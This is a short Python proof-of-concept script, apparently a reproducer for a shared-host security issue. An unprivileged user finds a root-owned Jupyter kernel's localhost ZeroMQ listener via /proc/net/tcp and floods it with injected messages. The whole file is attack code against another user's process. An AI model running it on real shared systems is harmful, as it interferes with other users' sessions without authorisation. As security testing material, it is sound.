"""The local student (uid 65534): find the root-owned TCP listener a TA's Jupyter kernel opens on 127.0.0.1 (ipykernel's
IOPub pipe for forked children) and push messages into it; the kernel prints each one it refuses to its stderr."""
import os, sys, time, zmq
before = {l.split()[1] for l in open("/proc/net/tcp").read().splitlines()[1:] if l.split()[3] == "0A"}
end = time.time() + 60
while time.time() < end:
    new = [l.split() for l in open("/proc/net/tcp").read().splitlines()[1:]
           if l.split()[3] == "0A" and l.split()[1] not in before and l.split()[7] == "0"]
    if new:
        port = int(new[0][1].split(":")[1], 16)
        break
    time.sleep(0.05)
else:
    sys.exit("no new root listener")
print(time.strftime("%H:%M:%S"), "root listener on 127.0.0.1:%d, uid %d pushing" % (port, os.getuid()), flush=True)
ctx = zmq.Context()
s = ctx.socket(zmq.PUSH)
s.connect(f"tcp://127.0.0.1:{port}")
for i in range(int(sys.argv[1])):
    s.send_multipart([b"not-the-key", b"INJECTED by uid 65534 #%d " % i + b"A" * 1000])
time.sleep(2)
print("sent", sys.argv[1], flush=True)
